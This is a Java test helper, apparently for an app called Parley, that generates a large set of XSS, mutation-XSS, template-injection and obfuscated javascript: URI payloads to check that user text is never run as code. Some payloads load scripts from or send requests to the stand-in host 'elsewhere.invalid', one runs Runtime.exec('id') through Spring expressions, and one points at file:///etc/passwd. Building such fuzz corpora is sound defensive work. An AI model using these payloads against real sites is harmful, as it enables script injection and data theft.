package dev.parley.test;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Texts that would run a script, load something from elsewhere or break a page out of its place, if any part of Parley took
 * them for more than text: elements, events, encodings, places to break out of, texts that parsers read in two ways, schemes
 * of addresses, and all shapes of links in Markdown. A script that ran would set {@code __xss}; what is loaded is from the
 * host {@value #HOST}. Made of parts, in the same order each time.
 */
public final class HostileTexts {
    public static final String HOST = "elsewhere.invalid";

    private static final String RUN = "__xss=1";

    private static final List<String> TAGS = List.of(
            "img src=x",
            "svg",
            "body",
            "iframe",
            "video src=x",
            "audio src=x",
            "input autofocus",
            "select autofocus",
            "textarea autofocus",
            "details open",
            "marquee",
            "object data=x",
            "embed src=x",
            "math",
            "a href=# tabindex=1 autofocus",
            "form",
            "style",
            "x-y tabindex=1 autofocus contenteditable",
            "dialog open",
            "button popovertarget=x");

    private static final List<String> EVENTS = List.of(
            "onerror",
            "onload",
            "onfocus",
            "ontoggle",
            "onpointerenter",
            "onmouseover",
            "onanimationstart",
            "onbegin",
            "onscrollend",
            "oncontentvisibilityautostatechange");

    private static final List<String> SCRIPTS =
            List.of(RUN, "alert(1)", "top[`__xss`]=1", "fetch(`//" + HOST + "`)", "import(`//" + HOST + "/a.js`)");

    private static final List<String> BREAKOUTS = List.of(
            "\">",
            "'>",
            "`>",
            "-->",
            "]]>",
            "*/</style>",
            "</title>",
            "</textarea>",
            "</script>",
            "</noscript>",
            "</bdi></p></article>",
            "\\\">",
            "\n\n",
            "}}");

    private static final List<String> ADDRESSES = List.of(
            "javascript:" + RUN,
            "JaVaScRiPt:" + RUN,
            "java\tscript:" + RUN,
            "java\nscript:" + RUN,
            " javascript:" + RUN,
            "javascript&colon;" + RUN,
            "&#106;avascript:" + RUN,
            "&#x6A;avascript:" + RUN,
            "%6aavascript:" + RUN,
            "javascript://%0a" + RUN,
            "javascript:/*--></title>*/" + RUN,
            "\u200bjavascript:" + RUN,
            "ja\u00advascript:" + RUN,
            "ｊavascript:" + RUN,
            "vbscript:" + RUN,
            "livescript:" + RUN,
            "data:text/html,<script>" + RUN + "</script>",
            "data:text/html;base64," + base64("<script>" + RUN + "</script>"),
            "data:image/svg+xml,<svg/onload=" + RUN + ">",
            "blob:https://" + HOST + "/x",
            "file:///etc/passwd",
            "view-source:https://" + HOST,
            "about:srcdoc",
            "//" + HOST + "/x",
            "\\\\" + HOST + "\\x",
            "https:" + HOST,
            "http:\\\\" + HOST,
            "https://" + HOST + "/\"onmouseover=\"" + RUN,
            "https://" + HOST + "/'onmouseover='" + RUN,
            "https://" + HOST + "/><script>" + RUN + "</script>",
            "https://" + HOST + "/`onmouseover=" + RUN,
            "mailto:a@" + HOST + "?body=\"onclick=" + RUN,
            "tel:1\"onclick=" + RUN,
            "/logout",
            "?x=<script>",
            "#\" onclick=" + RUN);

    /** Shapes of links and pictures in Markdown; {@code U} is the address. */
    private static final List<String> SHAPES = List.of(
            "[x](U)",
            "[x](<U>)",
            "[x](U \"t\")",
            "[x](U 'a\" onmouseover=" + RUN + " b')",
            "![x](U)",
            "![x](<U> 'onerror=" + RUN + "')",
            "[![x](U)](U)",
            "[x][r]\n\n[r]: U",
            "[r]\n\n[r]: <U> '\"onclick=" + RUN + "'",
            "![x][r]\n\n[r]: U",
            "<U>",
            "U",
            "[U](U)",
            "[<img src=x onerror=" + RUN + ">](U)",
            "| [x](U) |\n|---|\n| ![x](U) |",
            "> [x](U)",
            "- [ ] [x](U)",
            "||[x](U)||",
            "**[x](U)**",
            "`[x](U)`",
            "[x]\\(U)",
            "[x](U\n)",
            "[x](\\U)");

    /** Texts that one parser reads as harmless and another, after writing and reading them again, does not. */
    private static final List<String> TWICE_READ = List.of(
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=R&gt;\">",
            "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=R src>\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=R>\">",
            "<svg><style><img src=x onerror=R></style></svg>",
            "<noscript><p title=\"</noscript><img src=x onerror=R>\">",
            "<table><td><svg><desc><td><img src=x onerror=R></table>",
            "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=R>\">",
            "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=R></style></annotation-xml>",
            "<svg><foreignObject><math><mi><style><!--</style><img title=\"--&gt;&lt;/mi&gt;&lt;img src onerror=R&gt;\">",
            "<textarea><img title=\"</textarea><img src=x onerror=R>\">",
            "<xmp><p title=\"</xmp><img src=x onerror=R>\">",
            "<iframe srcdoc=\"&lt;script&gt;parent.R&lt;/script&gt;\">",
            "<template shadowrootmode=open><img src=x onerror=R></template>",
            "<svg><script href=data:,R />",
            "<svg><animate onbegin=R attributeName=x dur=1s>",
            "<svg><a><animate attributeName=href values=javascript:R /><text y=20>x</text></a>",
            "<svg><use href=\"data:image/svg+xml,<svg id=x onload=R></svg>#x\">",
            "<math><maction actiontype=statusline xlink:href=javascript:R>x</maction></math>",
            "<![CDATA[<img src=x onerror=R>]]>",
            "<!--[if gte IE 4]><script>R</script><![endif]-->",
            "<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:R\"?>",
            "<img src=\"x` `<script>R</script>\"` `>",
            "<a href=\"&#x1;javascript:R\">x</a>",
            "<p id=\"x\" class='\"><img src=x onerror=R>'>",
            "<isindex type=image src=1 onerror=R>",
            "<image src=x onerror=R>",
            "<title><a href=\"</title><img src=x onerror=R>\">",
            "<plaintext><script>R</script>",
            "<details><summary>x</summary><script>R</script></details>");

    /** What a server or a library of scripts might evaluate, and what loads or sends without a script. */
    private static final List<String> EVALUATED = List.of(
            "{{constructor.constructor('R')()}}",
            "{{7*7}}${7*7}#{7*7}*{7*7}@{7*7}~{7*7}",
            "[[${7*7}]] [(${7*7})] __${7*7}__ |${7*7}|",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<p th:utext=\"${7*7}\" th:onclick=\"R\">x</p>",
            "<%= 7*7 %> <? 7*7 ?> {% 7*7 %}",
            "<a hx-get=\"//H/\" hx-trigger=load hx-on::load=\"R\">x</a>",
            "<div data-hx-get=/logout data-hx-trigger=load data-hx-on:click=R>x</div>",
            "<a data-confirm data-picture data-action=delete href=/logout>x</a>",
            "<form action=//H/ method=post><button formaction=javascript:R>x</button></form>",
            "<form id=forms><input name=attributes><input name=innerHTML></form>",
            "<base href=//H/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:R\">",
            "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
            "<link rel=stylesheet href=//H/a.css>",
            "<link rel=prefetch href=//H/>",
            "<style>@import '//H/a.css';*{display:none}</style>",
            "<p style=\"background:url(//H/a.png);position:fixed;inset:0\">x</p>",
            "<p style=\"width:expression(R)\">x</p>",
            "<script src=//H/a.js></script>",
            "<script type=importmap>{\"imports\":{\"parley/\":\"//H/\"}}</script>",
            "<object data=//H/></object><embed src=//H/><applet code=x archive=//H/>",
            "<video poster=//H/a.png><source src=//H/a.webm></video>",
            "<img srcset=\"//H/a.png 1x\"><picture><source srcset=//H/a.png></picture>",
            "<a ping=//H/ href=/>x</a><area href=javascript:R>",
            "<iframe src=javascript:R></iframe><frameset onload=R>",
            "<portal src=//H/></portal><fencedframe src=//H/></fencedframe>",
            "<b id=__xss name=alert>x</b><img name=body id=body>",
            "__proto__[x]=R constructor.prototype hasOwnProperty toString",
            "<script>R</script>",
            "<ScRiPt>R</sCrIpT>",
            "<scr<script>ipt>R</scr</script>ipt>",
            "<script\u00a0>R</script>",
            "<\u00adscript>R</script>",
            "＜script＞R＜/script＞",
            "﹤img src=x onerror=R﹥",
            "‹img src=x onerror=R›",
            "\u202e>tpircs/<R>tpircs<",
            "<img src=x onerror=R//",
            "<img/src=x/onerror=R>",
            "<img\nsrc=x\nonerror\n=\nR>",
            "<img src=x oNeRrOr=R>",
            "<img src=x onerror=&#95;&#95;xss=1>",
            "<img src=x:x onerror\t=R >",
            "<<img src=x onerror=R>>",
            "<img \"\"\"><script>R</script>\">",
            "</p><img src=x onerror=R>",
            "<svg/onload=R>",
            "@<img/src/onerror=R>",
            ":<img/src/onerror=R>:",
            "```\"><img src=x onerror=R>\ncode\n```",
            "```html\n</code></pre><img src=x onerror=R>\n```",
            "~~<img src=x onerror=R>~~ ||<img src=x onerror=R>|| **<svg/onload=R>**",
            "| <img src=x onerror=R> |\n|:-:|\n| </td></table><svg/onload=R> |",
            "- [x] <svg/onload=R>\n- [ ] </ul><img src=x onerror=R>");

    private HostileTexts() {}

    /** All of them, each once. */
    public static List<String> all() {
        Set<String> texts = new LinkedHashSet<>();
        for (String each : twiceReadAndEvaluated()) {
            texts.add(each);
            texts.add(each.replace("<", "&lt;").replace(">", "&gt;"));
            texts.add(each.replace("<", "&#60;").replace(">", "&#x3e;"));
            texts.add(each.replace("<", "%3C").replace(">", "%3E"));
            texts.add(each.replace("<", "\\u003c").replace(">", "\\x3e"));
        }
        for (String address : ADDRESSES) {
            SHAPES.forEach(shape -> texts.add(shape.replace("U", address)));
            texts.add("<a href=\"" + address + "\">x</a>");
            texts.add("<iframe src='" + address + "'></iframe>");
        }
        for (String tag : TAGS) {
            EVENTS.forEach(event -> texts.add("<" + tag + " " + event + "=" + RUN + ">"));
            SCRIPTS.forEach(script -> texts.add("<" + tag.replace(' ', '/') + "/onload=\"" + script + "\">"));
        }
        for (String breakout : BREAKOUTS) {
            EVENTS.forEach(event -> texts.add(breakout + "<img src=x " + event + "=" + RUN + ">"));
            SCRIPTS.forEach(script -> texts.add(breakout + "<script>" + script + "</script>"));
            texts.add(breakout.replace(">", "") + " autofocus onfocus=" + RUN + " x=");
        }
        return new ArrayList<>(texts);
    }

    private static List<String> twiceReadAndEvaluated() {
        List<String> texts = new ArrayList<>(TWICE_READ);
        texts.addAll(EVALUATED);
        return texts.stream()
                .map(text -> text.replace("//H/", "//" + HOST + "/"))
                .map(text -> text.replaceAll("\\bR\\b", RUN))
                .toList();
    }

    /** Those that a short text of one line can hold, spread over all kinds. */
    public static List<String> brief(int length, int count) {
        List<String> fitting = all().stream()
                .filter(text -> text.length() <= length && text.chars().noneMatch(c -> c < ' ' || c > 0x7e))
                .toList();
        return IntStream.range(0, count)
                .mapToObj(n -> fitting.get((int) ((long) n * fitting.size() / count)))
                .collect(Collectors.toList());
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
